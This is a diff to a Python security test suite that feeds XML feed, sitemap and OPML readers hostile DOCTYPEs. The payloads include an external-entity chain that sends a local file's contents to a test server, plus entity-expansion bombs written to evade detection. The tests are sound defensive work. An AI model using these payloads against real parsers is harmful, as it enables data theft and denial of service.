@@ -24,6 +24,8 @@ DOCUMENTS = {
     "rdf": f"<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns='http://purl.org/rss/1.0/'>{ITEM}</rdf:RDF>",
     "urlset": "<urlset><url><loc>https://paper.example/&x;</loc></url></urlset>",
     "sitemapindex": "<sitemapindex><sitemap><loc>https://paper.example/&x;</loc></sitemap></sitemapindex>",
+    "no feed": "<r><title>&x;</title></r>",
+    "broken": f"<rss version='2.0'><channel><title>&x;</title>{ITEM}<description><b></description></channel></rss>",
     "opml": "<opml><head><title>&x;</title></head><body><outline text='&x;' xmlUrl='https://paper.example/rss'/></body></opml>",
 }
 DOORS: dict[str, Callable[[bytes], object]] = {
@@ -62,6 +64,9 @@ def test_no_reader_of_xml_opens_a_file_asks_a_server_or_swells(
         f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{server}"> %p;<!ENTITY x "CANARY">]>',
         f'<!DOCTYPE r [<!ENTITY % f SYSTEM "{file}"><!ENTITY % e "<!ENTITY x SYSTEM \'{server}?%f;\'>"> %e;]>',
         f'<!DOCTYPE r [<!ENTITY l0 "CANARY">{lots}<!ENTITY x "&l9;">]>',
+        f'<!-- x --><?x y?>\n<!DOCTYPE r PUBLIC "{"x" * 3000}" "x" [<!ENTITY l0 "CANARY">{lots}<!ENTITY x "&l9;">]>',
+        f'<!DOCTYPE r []><!DOCTYPE r [<!ENTITY l0 "CANARY">{lots}<!ENTITY x "&l9;">]>',
+        f'<!DOCTYPE r [<!ENTITY y "]>"><!ENTITY l0 "CANARY">{lots}<!ENTITY x "&l9;">]>',
         f'<!DOCTYPE r [{wide}<!ENTITY x "{"&w;" * 200}">]>',
     ):
         data = f'<?xml version="1.0"?>{doctype}{DOCUMENTS[document]}'.encode()
